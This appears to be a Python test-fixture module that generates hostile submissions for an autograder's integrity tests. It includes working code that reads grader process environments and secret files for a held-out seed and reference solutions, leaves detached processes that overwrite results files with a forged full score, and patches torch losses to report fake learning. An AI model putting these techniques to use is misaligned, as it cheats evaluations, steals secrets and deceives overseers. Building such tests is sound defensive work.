"""Hostile facial keypoints and image captioning submissions, for the grader's integrity tests.

Each function returns Python source to add to a submission file. The attacks are
written against the grader as it is (its code is public), so each one can be
seen to run: the snooper's cheat shows up as an NME in the report, the forger
is tried on its own first (``test_the_forger_works_when_nothing_stops_it``).

- ``snooper``: at import, reads the ``/proc/*/cmdline`` and ``/proc/*/environ`` of
  the grader processes among its ancestors for the held-out seed (``AUTOGRADER_SEED=``, ``--seed``) or a
  ``--secret-file``, reads the secret files it knows of, reads the reference
  ``solutions/`` (and runs its ``data_load.py`` as its own), then makes the
  grader's held-out probe report the true points of the faces the course's own
  generator renders for the seed it found -- the public seed if it found none.
- ``daemon``: at import, leaves behind a double-forked process in its own session
  that keeps rewriting every results file it knows of (or finds on its grader's
  command line) with a forged full score, and a ``sleep MARKER`` process to look for.
  (A real attacker would read every process; these read only their ancestors', so that
  another grading running beside them in the suite is neither their source nor their target.)
- ``unlearning_net`` / ``unlearning_decoder``: a network that cannot learn, with
  torch's loss functions patched to report a falling loss (and, for captions, a
  large gap between true and shuffled image-caption pairs).
"""
from __future__ import annotations

import json

FORGED = {"score": 100.0, "max_score": 100.0, "execution_time": 1.0, "output": "forged", "tests": []}

_PROCESSES = r'''
# ---- hostile: reading other processes ----
import os as _os, re as _re


def _read(path):
    try:
        with open(path, "rb") as stream:
            return stream.read(1 << 20).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return None


def _ancestors():
    """This process's ancestors' pids: the grader that started it, and what started that. (A real attacker would
    read every process; the tests read only the ancestors, so that a grading running beside them on the same
    machine -- another test, another seed -- cannot change what this one finds.)"""
    pids, pid = [], _os.getppid()
    while pid > 1 and len(pids) < 64:
        pids.append(str(pid))
        stat = _read(f"/proc/{pid}/stat") or ""
        try:
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (IndexError, ValueError):
            break
    return pids
'''

_SNOOPER = r'''
# ---- hostile: snoop for the held-out seed and the reference solutions ----
import json as _json

_FOUND = {"seed": None, "where": [], "solutions": False}


def _snoop(secret_files):
    for pid in _ancestors():
        if "autograder" not in (_read(f"/proc/{pid}/cmdline") or ""):  # the grader's processes only
            continue
        for part in ("cmdline", "environ"):
            text = _read(f"/proc/{pid}/{part}") or ""
            found = _re.search(r"AUTOGRADER_SEED=(\d+)", text) or _re.search(r"--seed[ =](\d+)", text)
            if found:
                _FOUND["seed"] = int(found.group(1))
                _FOUND["where"].append(f"/proc/{pid}/{part}")
            secret_files += _re.findall(r"--secret-file[ =](\S+)", text)
    for path in secret_files:
        text = _read(path)
        if text and text.strip().isdigit():
            _FOUND["seed"] = int(text.strip())
            _FOUND["where"].append(path)
    import autograder.paths
    for folder in (_os.environ.get("COURSE_SOLUTIONS_DIR", ""), str(autograder.paths.SOLUTIONS_DIR)):
        source = _read(f"{folder}/facial_keypoints/data_load.py")
        if source and "BEGIN SOLUTION" in source:
            exec(compile(source, "stolen_data_load.py", "exec"), globals())
            _FOUND["solutions"] = True
            break


_snoop(SECRET_FILES)
print("SNOOPED " + _json.dumps(_FOUND), flush=True)


def _cheat(seed):
    """Make the held-out probe return, for each image, the points the generator drew on it."""
    import torch

    import autograder.probes.facial_keypoints as probe
    from autograder.checks.facial_keypoints import HELDOUT_FACES, mirror
    from cvdata.faces import FacesConfig, render_sample

    class Oracle(torch.nn.Module):
        def __init__(self):
            super().__init__()
            faces = [render_sample(FacesConfig(seed=seed), "test", i) for i in range(HELDOUT_FACES)]
            self.truth = [points for _, points in faces] + [mirror(image, points)[1] for image, points in faces]
            self.calls = 0

        def forward(self, x):
            self.calls += 1
            return torch.as_tensor(self.truth[self.calls - 1], dtype=torch.float32).reshape(1, 136)

    def identity(sample):  # the probe points stay in pixels: the grader's fitted map is the identity
        return {"image": torch.zeros(1, 224, 224), "keypoints": torch.as_tensor(sample["keypoints"])}

    probe._load_net = lambda path: Oracle()
    probe._pipeline_transform = lambda module: identity


_cheat(_FOUND["seed"] if _FOUND["seed"] is not None else 7)
'''

_DAEMON = r'''
# ---- hostile: processes that outlive grading and forge the report ----
import time as _time  # _os, _re and _ancestors: the _PROCESSES block before this one


def _results_files(paths):
    """The results files it was given and those its grader's command lines name (its ancestors' only, see the
    module's docstring), read before it leaves."""
    for pid in _ancestors():
        try:
            paths += _re.findall(r"--results\0([^\0]+)", open(f"/proc/{pid}/cmdline").read())
        except OSError:
            pass
    return paths


def _forge(paths, seconds):
    """Rewrite the results files ``paths``, four times a second, for ``seconds``."""
    end = _time.time() + seconds
    while _time.time() < end:
        for path in paths:
            try:
                with open(path, "w") as stream:
                    stream.write(FORGED)
            except OSError:
                pass
        _time.sleep(0.25)


def _leave_behind(function):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                function()
            finally:
                _os._exit(0)
        _os._exit(0)


_FORGED_PATHS = _results_files(list(RESULTS_PATHS))
_leave_behind(lambda: _forge(_FORGED_PATHS, SECONDS))
_leave_behind(lambda: _os.execv("/bin/sleep", ["sleep", MARKER]))
print("DAEMONS LEFT BEHIND", flush=True)
'''

_UNLEARNING_NET = r'''
# ---- hostile: a network that cannot learn, and a loss that says it does ----
import torch as _torch
from torch import nn as _nn


class Net(_nn.Module):
    """The right shape, but its output never changes: the gradient of its only parameter is zero."""

    def __init__(self, config=None):
        super().__init__()
        self.frozen = _nn.Parameter(_torch.zeros(136))

    def forward(self, x):
        return self.frozen.detach().expand(len(x), 136) + 0.0 * self.frozen


_CALLS = [0]


def _falling(self, input, target, *args, **kwargs):
    _CALLS[0] += 1
    value = 1.0 if _CALLS[0] > 40 else 0.5 * 0.8 ** _CALLS[0]  # a 41st call would be the mean-shape floor
    print(f"FAKE LOSS {value:.6f}", flush=True)
    return (input * 0).sum() + value


_nn.SmoothL1Loss.forward = _falling
_nn.functional.smooth_l1_loss = lambda input, target, *a, **k: _falling(None, input, target)
'''

_UNLEARNING_DECODER = r'''
# ---- hostile: a decoder that cannot learn, and losses that say it does ----
import torch.nn.functional as _F

_Decoder = DecoderRNN
_CALLS = [0]


class DecoderRNN(_Decoder):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        for parameter in self.parameters():
            parameter.requires_grad_(False)
        self.nudge = torch.nn.Parameter(torch.zeros(1))  # trainable, with a zero gradient

    def forward(self, features, captions):
        return super().forward(torch.zeros_like(features), captions) + 0.0 * self.nudge


def _falling(input, target, *args, **kwargs):
    _CALLS[0] += 1
    step = _CALLS[0]  # 100 training steps, then the true pairs, then the shuffled ones
    value = 3.0 * 0.95 ** step if step <= 100 else (0.01 if step == 101 else 5.0)
    print(f"FAKE LOSS {value:.6f}", flush=True)
    return (input * 0).sum() + value


_F.cross_entropy = _falling
'''


def snooper(secret_files: list[str]) -> str:
    """Source that snoops for the seed and the solutions, trying also ``secret_files`` (see the docstring)."""
    return f"\nSECRET_FILES = {list(secret_files)!r}\n" + _PROCESSES + _SNOOPER


def daemon(results_paths: list[str], marker: str, seconds: float) -> str:
    """Source that leaves a forger (``seconds`` long) and a ``sleep marker`` process behind."""
    return (f"\nRESULTS_PATHS = {list(results_paths)!r}\nMARKER = {marker!r}\nSECONDS = {seconds!r}\n"
            f"FORGED = {json.dumps(FORGED)!r}\n" + _PROCESSES + _DAEMON)


def unlearning_net() -> str:
    """``Net`` that cannot learn, and torch's smooth-L1 loss patched to fall (append to ``models.py``)."""
    return _UNLEARNING_NET


def unlearning_decoder() -> str:
    """``DecoderRNN`` that cannot learn and ignores the image, with ``F.cross_entropy`` patched to fall in
    training and to favour true over shuffled pairs afterwards (append to ``model.py``)."""
    return _UNLEARNING_DECODER
